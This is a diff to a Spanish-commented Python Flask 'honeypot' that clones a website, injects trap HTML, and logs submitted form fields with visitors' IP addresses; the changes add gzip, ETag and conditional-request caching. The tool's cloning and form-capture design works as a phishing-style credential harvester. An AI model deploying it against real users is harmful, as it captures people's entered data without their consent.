@@ -1,13 +1,84 @@
 #!/usr/bin/env python3
 import os
 import sys
+import gzip
+import hashlib
+import threading
+import time
 import requests
-from flask import Flask, request, render_template_string
+from flask import Flask, request, Response
+from werkzeug.http import http_date, parse_date
 from datetime import datetime
 
 app = Flask(__name__)
 CLONE_DIR = "cloned_site"
 LOG_FILE = "honeypot.log"
+# cada cuánto se vuelve a mirar el mtime de una página cacheada (segundos)
+PAGE_CHECK_INTERVAL = 1.0
+
+# ruta -> página ya lista para servir (bytes, gzip, ETag, Last-Modified)
+_page_cache = {}
+_page_lock = threading.Lock()
+
+def invalidate_pages():
+    with _page_lock:
+        _page_cache.clear()
+
+def load_page(name):
+    """Página clonada como bytes estáticos; se recarga si cambia su mtime."""
+    path = os.path.join(CLONE_DIR, name)
+    now = time.monotonic()
+    page = _page_cache.get(path)
+    if page is not None and now - page["checked"] < PAGE_CHECK_INTERVAL:
+        return page
+    st = os.stat(path)
+    if page is not None and page["mtime"] == st.st_mtime_ns and page["size"] == st.st_size:
+        page["checked"] = now
+        return page
+    with open(path, "rb") as f:
+        body = f.read()
+    digest = hashlib.sha1(body).hexdigest()
+    page = {
+        "body": body,
+        "gzip": gzip.compress(body, 9),
+        "etag": f'"{digest}"',
+        "etag_gzip": f'"{digest}-gz"',
+        "last_modified": http_date(st.st_mtime),
+        # misma precisión (segundos, UTC) que la cabecera If-Modified-Since
+        "last_modified_dt": parse_date(http_date(st.st_mtime)),
+        "mtime": st.st_mtime_ns,
+        "size": st.st_size,
+        "checked": now,
+    }
+    with _page_lock:
+        _page_cache[path] = page
+    return page
+
+def page_response(page):
+    use_gzip = request.accept_encodings["gzip"] > 0
+    etag = page["etag_gzip"] if use_gzip else page["etag"]
+    headers = {
+        "ETag": etag,
+        "Last-Modified": page["last_modified"],
+        "Cache-Control": "no-cache",
+        "Vary": "Accept-Encoding",
+    }
+    not_modified = False
+    # las peticiones condicionales sólo valen para GET/HEAD; un POST siempre recibe la página
+    if request.method in ("GET", "HEAD"):
+        if request.if_none_match:
+            not_modified = request.if_none_match.contains_weak(etag.strip('"'))
+        else:
+            ims = request.if_modified_since
+            not_modified = ims is not None and page["last_modified_dt"] <= ims
+    if not_modified:
+        return Response(status=304, headers=headers)
+    if use_gzip:
+        headers["Content-Encoding"] = "gzip"
+        body = page["gzip"]
+    else:
+        body = page["body"]
+    return Response(body, mimetype="text/html", headers=headers)
 
 def clone_site(url):
     try:
@@ -27,6 +98,7 @@ def clone_site(url):
         html = html.replace("</body>", trap_html + "</body>")
         with open(os.path.join(CLONE_DIR, "index.html"), "w", encoding="utf-8") as f:
             f.write(html)
+        invalidate_pages()
         print(f"[+] Sitio clonado y modificado en '{CLONE_DIR}/index.html'")
     except Exception as e:
         print(f"[!] Error al clonar el sitio: {e}")
@@ -41,9 +113,7 @@ def index():
     if request.method == "POST":
         log_data(f"Formulario capturado: {dict(request.form)} - IP: {request.remote_addr}")
     try:
-        with open(os.path.join(CLONE_DIR, "index.html"), "r", encoding="utf-8") as f:
-            html = f.read()
-        return render_template_string(html)
+        return page_response(load_page("index.html"))
     except:
         return "Error cargando el sitio clonado."
 